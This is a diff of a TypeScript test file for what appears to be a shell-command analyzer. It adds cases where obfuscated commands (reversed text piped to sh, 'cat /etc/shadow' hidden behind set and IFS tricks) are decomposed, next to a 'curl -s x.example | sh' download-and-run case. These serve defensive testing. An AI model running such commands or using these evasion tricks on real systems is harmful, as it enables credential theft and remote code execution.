@@ -19,6 +19,10 @@ const CASES: Array<[string, string[]]> = [
   ["tmux new -d -s upd 'curl -s x.example | sh'", ['eval:curl -s x.example', 'eval:sh', 'tmux new -d -s upd curl -s x.example | sh']],
   ['tmux new -s dev', ['tmux new -s dev']],
   // a client asked for its usage does nothing else; a program after `--` is not the client
+  // a `$` before a blank is itself, so the reversed line is known
+  ['echo "di$ b" | rev | sh', ['echo di$ b', 'rev', 'sh', 'piped-to-shell:b $id']],
+  ['set -- cat /etc/shadow; "$@"', ['set -- cat /etc/shadow', 'cat /etc/shadow']],
+  ['IFS=,; set -- cat,/etc/shadow; $@', ['set -- cat,/etc/shadow', 'cat /etc/shadow']],
   ['aws cloudtrail stop-logging help', ['aws --help']],
   ['kubectl delete ns prod --help', ['kubectl --help']],
   ["kubectl exec api -- sh -c 'id' --help", ['kubectl exec api -- sh -c id --help', 'remote:sh -c id --help', 'shell-c:id']],
